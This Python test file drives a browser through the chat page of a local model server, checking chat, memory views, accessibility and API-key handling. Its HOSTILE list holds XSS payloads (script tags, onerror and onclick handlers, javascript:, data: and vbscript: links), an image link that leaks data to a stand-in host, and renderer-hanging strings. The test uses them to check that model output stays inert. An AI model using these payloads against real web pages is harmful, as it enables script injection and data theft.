"""The page of `alight serve` in a real browser: what a person does with it, and what a model may not do to it.

A chat with SmolLM2 is held, stopped, edited, answered again and found again after the page was loaded anew; the answer is compared
with that of `alight run`. Texts that a hostile model could write are shown as text. The picture of memory is compared with what the
server tells, and so are the experts of a mixture that comes from the disk. The page is looked at as wide and narrow, in the light and in the dark: nothing sticks out, everything has a name,
contrast is that of WCAG AA, and the keyboard reaches all of it. Where there is no browser, this says so and is no failure.
"""

from __future__ import annotations

import json
import tempfile
from pathlib import Path

from evidence.check.clients import serving
from evidence.lib import browser as browsers
from evidence.lib import common, page_chats, process, tiny_models
from evidence.lib.browser import Browser
from evidence.lib.checks import Checks
from evidence.lib.tiny_models import Tiny

QUESTION, SEED, TOKENS = "Why is the sky blue?", 7, 24
# 52 MB, nearly all of it experts.
MIXTURE = Tiny("mixture", "qwen3moe", layers=8, embd=256, heads=8, head_dim=32, qk_norm=True, experts=32, used=2, expert_ff=256, kind="Q8_0")
TAB, ESCAPE, ENTER, SHIFT = "\ue004", "\ue00c", "\ue007", "\ue008"

# The last message is all there, and nothing is being answered.
IDLE = "return document.getElementById('stop').hidden && document.querySelector('.message.assistant .numbers') !== null"

# Milliseconds after which a text counts as one that hangs the page. A busy machine has taken seven seconds for the worst of those below.
HANGS = 25_000

# Texts of models that mean no good, or are clumsy; and what may come of them.
HOSTILE = [
    "<img src=x onerror=\"window.hurt = 1\"><script>window.hurt = 1</script>",
    "[press me](javascript:window.hurt=1) [and me](data:text/html,<script>window.hurt=1</script>)",
    "![picture](https://elsewhere.example/leak?of=secrets)",
    "```html\n<script>window.hurt = 1</script>\n```",
    "| a | b |\n|---|---|\n| <b onclick=alert(1)>x</b> | [y](vbscript:z) |",
    "<a href=\"javascript:window.hurt=1\">link</a> `<script>` **<i>**",
    "[" * 30000 + "*" * 30000 + "`" * 30001 + "_" * 30000,
    "".join("`" * n + " " for n in range(300)),
    "*a " * 20000 + "_a " * 20000 + "[a](" * 20000 + "~~a " * 20000,
    "**" * 20000 + "a" + "# " + " " * 50000 + "x",
    "- " + " " * 50000 + "x\n" + "|" * 50000 + "\n" + "|-" * 20000,
    "*_" * 20000 + "a" + "_*" * 20000,
    "> " * 500 + "deep",
    "\n".join("  " * n + "- item" for n in range(200)),
    "$" * 20001 + "$a" * 20000 + "$$a" * 10000 + "\\(" * 20000 + "\\[" * 20000,
    "$$" + "{" * 3000 + "}" * 3000 + "$$ $$" + "\\sqrt" * 1500 + "$$ $$" + "x_" * 3000 + "$$ $$\\text{<img src=x onerror=alert(1)>}\\href{javascript:alert(1)}{x}$$",
    *(f"```{name}\n" + (mark * (90000 // len(mark))) + "\n```" for name, mark in (("c", "/*"), ("c", '"\\'), ("python", '"""a'), ("rust", 'r#"'), ("html", '<!--"'), ("js", "`a"), ("sql", "1a.1"))),
]
MARKDOWN = """# Title

Some **bold**, *italic*, `code`, ~~gone~~ and [a link](https://example.org/x).

```rust
fn main() { let x = "a"; } // 12
```

Inline \\(x^2\\), $a_1$ and \\*not italic\\*, for $5 or $10:

$$\\sum_{i=1}^n \\frac{1}{i}$$

\\[
\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}
\\]

1. one
2. two
   - inner

| a | b |
|---|---|
| 1 | 2 |

> quoted
"""

FORMULAS = [
    r"x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}", r"e^{i\pi} + 1 = 0", r"\int_{-\infty}^{\infty} e^{-x^2}\,dx = \sqrt{\pi}", r"\lim_{x \to 0} \frac{\sin x}{x} = 1",
    r"f(x) = \begin{cases} 1 & \text{if } x > 0 \\ 0 & \text{otherwise} \end{cases}", r"\begin{aligned} a &= b + c \\[4pt] &= d \end{aligned}",
    r"\left( \frac{a}{b} \right)^{n'}", r"\mathbb{R}^n \subseteq \mathcal{H}, \mathbf{x} \in \mathfrak{g}", r"\hat{y} = \overline{z} + \vec{v} \cdot \dot{x}",
    r"\operatorname*{argmax}_{\theta} \log p_\theta(x \mid y)", r"\binom{n}{k} = \dfrac{n!}{k!(n-k)!}", r"\boxed{x = 5\%}", r"\underbrace{a + b}_{c} \overset{!}{=} \lVert v \rVert_2",
    r"\begin{array}{c|c} 1 & 2 \\ \hline 3 & 4 \end{array}", r"A \not= B, a \equiv b \pmod{n}", r"\sum_{\substack{i < j \\ j < n}} x_{ij}^{2}", r"a \\ b", r"\sqrt[3]{x} \tag{1}",
    r"\Bigl( x \Bigr) \{ y \} \left\{ z \right.", r"\displaystyle \nabla \times \vec{E} = -\frac{\partial \vec{B}}{\partial t}",
]

CONTRAST = """
const channel = (v) => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
const light = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
const parse = (c) => c.match(/[\\d.]+/g).map(Number);
const back = (e) => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] > 0) return c; } return [255, 255, 255]; };
const wrong = [];
for (const e of document.querySelectorAll('body *')) {
  const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
  if (!own || !e.checkVisibility({checkOpacity: true, checkVisibilityCSS: true}) || e.disabled || e.matches('.unseen, .skip, option, script, style')) continue;
  const [a, b] = [light(parse(getComputedStyle(e).color)), light(back(e))].sort((x, y) => y - x);
  const ratio = (a + 0.05) / (b + 0.05);
  if (ratio < 4.5) wrong.push(`${e.tagName}.${e.className} "${e.textContent.trim().slice(0, 20)}" ${ratio.toFixed(2)}`);
}
return wrong;
"""
NAMES = """
const wrong = [];
for (const e of document.querySelectorAll('button, input, select, textarea, a, canvas, [role=img], nav, aside, article, section[tabindex]')) {
  if (!e.checkVisibility()) continue;
  const label = e.labels && e.labels.length ? e.labels[0].textContent : '';
  if (!(e.getAttribute('aria-label') || label || e.textContent || e.title).trim()) wrong.push(e.outerHTML.slice(0, 100));
}
return wrong;
"""
STICKS_OUT = """
const width = document.documentElement.clientWidth;
const wrong = [];
if (document.documentElement.scrollWidth > width) wrong.push(`the page is ${document.documentElement.scrollWidth} wide`);
for (const e of document.querySelectorAll('header *, main *, aside *, nav *')) {
  if (!e.checkVisibility() || e.closest('pre, .wide-table, .unseen, .skip')) continue;
  const box = e.getBoundingClientRect();
  if (box.width && (box.right > width + 1 || box.left < -1)) wrong.push(`${e.tagName}#${e.id}.${e.className} ${box.left.toFixed()}..${box.right.toFixed()}`);
}
return wrong.slice(0, 8);
"""


def add_arguments(parser) -> None:
    """The program and the models; where pictures are kept."""
    common.add_arguments(parser)
    parser.add_argument("--pictures", type=Path, help="keep pictures of the page in this folder; those in docs/pictures are among them")
    parser.add_argument("--verbose", action="store_true", help="say also what holds")


def numbers(page: Browser, **values) -> None:
    """Sets numbers in the settings."""
    page.click("#open-settings")
    for name, value in values.items():
        page.run("arguments[0] = document.getElementById('set-' + arguments[0]); arguments[0].value = arguments[1];"
                 "arguments[0].dispatchEvent(new Event('change'))", name, str(value))
    page.click("#settings .close")


def answers(page: Browser) -> list[str]:
    """The texts of all answers."""
    return page.run("return [...document.querySelectorAll('.message.assistant > .text')].map(e => e.innerText)")


def chat(page: Browser, expected: str, checks: Checks) -> None:
    """Asked and answered, stopped, edited, answered again, kept."""
    numbers(page, seed=SEED, max_tokens=TOKENS)
    page.type("#ask", QUESTION + ENTER)
    page.until(IDLE)
    said = " ".join(answers(page)[0].split())
    checks.add(said == " ".join(expected.split()), f"the answer is that of alight run (found {said!r})")
    told = page.text(".message.assistant .numbers")
    checks.add(f"{TOKENS} generated" in told and "tokens read" in told and "first after" in told, f"numbers of the answer: {told}")
    checks.add(QUESTION in page.text("#conversations .name"), "the conversation has the name of its question")
    checks.add(page.text("#spoken").startswith("Answer: "), "a screen reader is told the answer once it is whole")

    page.go(page.run("return location.href"))
    page.until("return document.querySelectorAll('.message').length === 2")
    checks.add(" ".join(answers(page)[0].split()) == said, "a conversation is there again after the page was loaded anew")

    page_chats.press(page, "Answer again")
    page.until("return document.querySelector('.message.assistant .actions').textContent.includes('2/2')")
    page.until(IDLE)
    checks.add([" ".join(one.split()) for one in answers(page)] == [said], "the same seed answers the same again")
    checks.add("known already" in page.text(".message.assistant .numbers"), "the prompt was known this time")

    page_chats.press(page, "Edit")
    page.run("document.querySelector('.message.user textarea').value = 'Name three colours.'")
    page.click(".message.user .buttons button")
    page.until(IDLE)
    checks.add(page.text(".message.user > .text") == "Name three colours." and answers(page)[0] != said, "an edited message is answered anew")

    numbers(page, max_tokens=4000, temperature=0)
    page.click("#new")
    page.type("#ask", "Write a very long story about the sea." + ENTER)
    page.until("return document.querySelector('.message.assistant > .text').textContent.length > 20")
    page.keys(ESCAPE)
    page.until(IDLE)
    checks.add("stopped" in page.text(".message.assistant .numbers"), "Escape stops an answer")
    slots = "return fetch('/slots').then(r => r.json()).then(all => all.every(s => !s.is_processing))"
    page.until(slots)
    checks.add(len(answers(page)[0]) > 10, "what was said before it was stopped stays, and the server has stopped too")


def reading(page: Browser, checks: Checks) -> None:
    """A long prompt shows how far it is."""
    numbers(page, max_tokens=4)
    page.click("#new")
    page.run("""window.seen = [];
        new MutationObserver(() => window.seen.push(document.getElementById('status').textContent))
            .observe(document.getElementById('status'), {childList: true, characterData: true, subtree: true});
        document.getElementById('ask').value = Array.from({length: 500}, (_, i) => 'word' + i).join(' ');
        document.getElementById('composer').requestSubmit();""")
    page.until(IDLE)
    seen = [text for text in page.run("return window.seen") if text.startswith("Reading: ")]
    checks.add(len(seen) > 1 and any("left" in text for text in seen), f"a long prompt shows how far it is ({seen[:2]})")


def shown_as_text(page: Browser, checks: Checks) -> None:
    """What models write is shown, and does nothing."""
    show = """
        const into = document.createElement('div');
        into.className = 'text'; into.id = 'probe';
        document.getElementById('probe')?.remove();
        document.getElementById('log').append(into);
        const began = performance.now();
        Alight.show(into, arguments[0]);
        return performance.now() - began;
    """
    address = page.run("return location.href")
    for text in HOSTILE:
        took = page.run(show, text)
        kinds = set(page.run("return [...document.querySelectorAll('#probe *')].map(e => e.tagName)"))
        links = page.run("return [...document.querySelectorAll('#probe a')].map(e => e.href)")
        bad = kinds & {"SCRIPT", "IMG", "IFRAME", "OBJECT", "STYLE", "FORM", "I", "B"}
        handlers = page.run("return [...document.querySelectorAll('#probe *')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length")
        checks.add(not bad and not handlers and all(link.startswith("http") for link in links) and took < HANGS,
                   f"text stays text: {text[:50]!r} ({bad or ''}{links or ''} {took:.0f} ms)")
    checks.add(page.run("return window.hurt === undefined") and page.run("return location.href") == address, "no script of a model has run")
    page.run(show, MARKDOWN)
    kinds = page.run("return [...document.querySelectorAll('#probe *')].map(e => e.tagName)")
    wanted = {"H2", "STRONG", "EM", "CODE", "S", "A", "PRE", "OL", "UL", "TABLE", "BLOCKQUOTE"}
    checks.add(wanted <= set(kinds), f"Markdown is shown as what it says ({wanted - set(kinds) or 'all of it'})")
    maths = page.run("return [...document.querySelectorAll('#probe math')].map(e => [e.getAttribute('display'), [...e.querySelectorAll('mfrac, munderover, msup, msub, mtd')].map(m => m.localName).join()])")
    checks.add(maths == [["inline", "msup"], ["inline", "msub"], ["block", "munderover,mfrac"], ["block", "mtd,mtd,mtd,mtd"]], f"formulas become MathML: {maths}")
    checks.add("*not italic*, for $5 or $10:" in page.text("#probe"), "a mark after a backslash, and sums of money, stay text")
    colours = page.run("return [...document.querySelectorAll('#probe pre span')].map(e => e.className + ' ' + e.textContent)")
    checks.add(colours == ["keyword fn", "keyword let", 'string "a"', "comment // 12"], f"code has colours: {colours}")
    wrong = page.run("""
        return arguments[0].filter((source) => {
          const made = Alight.formula(source, true);
          return !made || made.textContent.includes('\\\\') || made.querySelector('merror');
        });
    """, FORMULAS)
    checks.wrong("formulas that models write are read", wrong)
    # A text that grows is shown as the whole one is, and what stands already is not made again.
    grown = page.run("""
        const [text] = arguments, into = document.createElement('div'), whole = document.createElement('div');
        let first = null, stays = true;
        for (let n = 1; n <= text.length; n++) {
          Alight.show(into, text.slice(0, n));
          if (n === 40) first = into.firstChild;
          if (n > 40) stays &&= into.firstChild === first;
        }
        Alight.show(whole, text);
        return [into.isEqualNode(whole), stays];
    """, MARKDOWN)
    checks.add(grown == [True, True], "a text that grows ends as the whole one")
    page.run("document.getElementById('probe').remove()")


def memory(page: Browser, checks: Checks) -> None:
    """The picture says what the server says."""
    page.click("#open-memory")
    page.until("return document.querySelectorAll('#memory .part').length > 0")
    told = page.run("return fetch('/alight/memory').then(r => r.json())")
    parts = told["models"][0]["parts"]
    titles = page.run("return [...document.querySelectorAll('#memory .part')].map(e => e.title)")
    checks.add(len(titles) == len(parts) and titles[1].startswith("layer 0: "), f"a field for each part ({len(titles)})")
    full = sum("100 %" in title for title in titles)
    checks.add(full >= len(parts) // 2, f"weights that answered a moment ago are in memory ({full} of {len(parts)} fields are full)")
    rows = page.run("return Object.fromEntries([...document.querySelectorAll('#memory-process dt')].map(e => [e.textContent, e.nextSibling.textContent]))")
    checks.add(rows["of its own"].endswith("B") and rows["its share of all (PSS)"].endswith("B"), f"the process: {rows}")
    checks.add("pages of 64 tokens" in page.text("#memory"), "the KV cache by pages")
    page.run("window.asked = performance.getEntriesByType('resource').filter(e => e.name.endsWith('/memory')).length")
    page.until("return performance.getEntriesByType('resource').filter(e => e.name.endsWith('/memory')).length > window.asked + 1")
    page.click("#memory .close")
    checks.add(page.run("return document.activeElement.id") == "open-memory", "the focus goes back to what opened the panel")


def looks(page: Browser, checks: Checks, pictures: Path | None) -> None:
    """As wide and narrow, light and dark."""
    for name, width, height, dark in (("wide", 1280, 800, False), ("wide-dark", 1280, 800, True), ("narrow", 360, 640, False), ("narrow-dark", 360, 640, True)):
        page.size(width, height, dark)
        for panel in ("", "memory", "settings") + (("list",) if width < 500 else ()):
            if panel:
                page.click(f"#open-{panel}")
            if panel == "memory":
                page.until("return document.querySelectorAll('#memory .part').length > 0")
            where = f"{name} {panel}".strip()
            checks.wrong(f"nothing sticks out ({where})", page.run(STICKS_OUT))
            checks.wrong(f"contrast is 4.5 or more ({where})", page.run(CONTRAST))
            checks.wrong(f"everything has a name ({where})", page.run(NAMES))
            if pictures:
                page.picture(pictures / f"{name}{'-' if panel else ''}{panel}.png")
            if panel:
                page.keys(ESCAPE)
                page.until(f"return !document.getElementById('{panel}').checkVisibility() || document.getElementById('{panel}').matches('nav:not(.open)')")
    page.size(1280, 800)
    page.run("document.activeElement.blur()")
    seen = []
    for _ in range(60):
        page.keys(TAB)
        name = page.run("const e = document.activeElement; return e.id || e.getAttribute('aria-label') || e.textContent")
        if name in seen[:1]:
            break
        seen.append(name)
    for wanted in ("model", "open-memory", "open-settings", "new", "log", "ask", "send"):
        checks.add(wanted in seen, f"Tab reaches {wanted}")


# How many points of the picture of experts have each colour.
POINTS = """
const canvas = document.querySelector('#memory canvas.experts');
if (!canvas) return null;
const {width, height} = canvas, pixels = canvas.getContext('2d').getImageData(0, 0, width, height).data;
const probe = document.createElement('canvas').getContext('2d', {willReadFrequently: true}), style = getComputedStyle(document.documentElement);
const colours = ['--full', '--part', '--none'].map((name) => {
  probe.fillStyle = style.getPropertyValue(name).trim();
  probe.fillRect(0, 0, 1, 1);
  return [...probe.getImageData(0, 0, 1, 1).data].join();
});
const counts = [0, 0, 0];
for (let i = 0; i < pixels.length; i += 4) counts[colours.indexOf([...pixels.slice(i, i + 4)].join())]++;
return [width, height, ...counts];
"""
EXPERTS = """
return fetch('/alight/memory').then(r => r.json()).then(told => {
  const layers = told.models.find(m => m.name === arguments[0]).parts.filter(p => p.experts), all = layers.flatMap(l => l.experts);
  const whole = all.filter(s => s > 99).length, none = all.filter(s => s === 0).length;
  return [layers[0].experts.length, layers.length, whole, all.length - whole - none, none];
});
"""


def with_template(writer, model: Tiny) -> None:
    """A vocabulary, and a template for chats."""
    tiny_models.add_vocabulary(writer, model)
    writer.add_chat_template("{% for message in messages %}{{ message['content'] }} {% endfor %}")


def mixture(program: Path, model: Path, folder: Path, checks: Checks, pictures: Path | None) -> None:
    """Beside SmolLM2 there is a mixture of experts, a third of which fits into the memory that it may take."""
    other = tiny_models.write(MIXTURE, folder / "mixture.gguf", vocabulary=with_template)
    with serving(program, model, other, "--memory", "125M") as address, browsers.opened() as page:
        page.size(1280, 800)
        page.go(address)
        page.until("return document.getElementById('model').options.length === 2")
        numbers(page, seed=SEED, temperature=0, max_tokens=120)
        page.type("#ask", "Explain in one sentence why the sky is blue." + ENTER)
        page.until(IDLE)
        page.click("#open-memory")
        page.until("return document.querySelector('#memory canvas.experts') !== null")
        before = page.run(EXPERTS, "mixture")
        sizes = [MIXTURE.experts, MIXTURE.layers]
        checks.add(before == [*sizes, 0, 0, MIXTURE.experts * MIXTURE.layers], f"a point for each expert of each layer, none in memory yet: {before}")
        page.click("#memory .close")
        page.run("const m = document.getElementById('model'); m.value = 'mixture'; m.dispatchEvent(new Event('change'))")
        page.click("#new")
        numbers(page, max_tokens=2)
        page.type("#ask", "one" + ENTER)
        page.until(IDLE)
        page.click("#open-memory")
        page.until(f"return ((() => {{ {POINTS} }})() || [])[2] > 0")
        told, seen = page.run(EXPERTS, "mixture"), page.run(POINTS)
        checks.add(seen == told and told[2] > 0 and told[4] > 0, f"the experts that have come are in the picture: {seen}, and as the server tells: {told}")
        checks.add("of those chosen were there" in page.text("#memory"), "how many of the experts that were chosen were there")
        if pictures:
            page.click("#conversations li:last-child .name")
            for name, dark in (("page", False), ("page-dark", True)):
                page.size(1280, 800, dark)
                # Drawn anew, in these colours.
                page.until(f"return JSON.stringify((() => {{ {POINTS} }})()) === arguments[0]", json.dumps(told, separators=(",", ":")))
                page.picture(pictures / f"{name}.png")
            page.click("#memory .close")
            page.size(360, 640)
            page.picture(pictures / "page-narrow.png")


def with_key(program: Path, model: Path, checks: Checks) -> None:
    """A server that asks for a key."""
    with serving(program, model, "--api-key", "secret") as address, browsers.opened() as page:
        page.go(address)
        page.until("return !document.getElementById('notice').hidden")
        checks.add("API key" in page.text("#notice"), f"a key that is missing is asked for: {page.text('#notice')}")
        page.click("#open-settings")
        page.type("#key", "secret" + TAB)
        page.until("return document.getElementById('notice').hidden && document.getElementById('model').options.length === 1")
        kept = page.run("return JSON.stringify(localStorage)")
        checks.add("secret" not in kept, "the key is not kept on the disk")


def run(args) -> int:
    """All of it."""
    checks = Checks(quiet=not args.verbose)
    if browsers.driver() is None:
        common.say("The page was not looked at: there is no chromedriver here (Debian: apt install chromium chromium-driver).")
        return 0
    program, model = common.alight(args.alight), common.model_path("smollm2", args.models)
    expected = process.told([program, "run", model, QUESTION, "-n", TOKENS, "-s", SEED, "--json"], timeout=120)["text"]
    if args.pictures:
        args.pictures.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as folder, serving(program, model) as address, browsers.opened() as page:
        page.size(1280, 800)
        page.go(address)
        chat(page, expected, checks)
        reading(page, checks)
        page_chats.run(page, checks, Path(folder))
        shown_as_text(page, checks)
        memory(page, checks)
        looks(page, checks, args.pictures)
        # Refused requests of the page's own would be here, and what the policy has stopped.
        checks.wrong("the browser complains of nothing", page.errors())
        asked = page.run("return performance.getEntriesByType('resource').map(e => e.name)")
        checks.wrong("no other host is asked", [name for name in asked if not name.startswith(address)])
    with tempfile.TemporaryDirectory() as folder:
        mixture(program, model, Path(folder), checks, args.pictures)
    with_key(program, model, checks)
    with serving(program, model, "--parallel", "1") as address, browsers.opened() as page:
        page.go(address)
        page_chats.queue(page, checks)
    if args.json:
        print(json.dumps(checks.rows, indent=1))
    else:
        print(f"{checks.passed} of {checks.passed + checks.failed} hold")
    return checks.status()
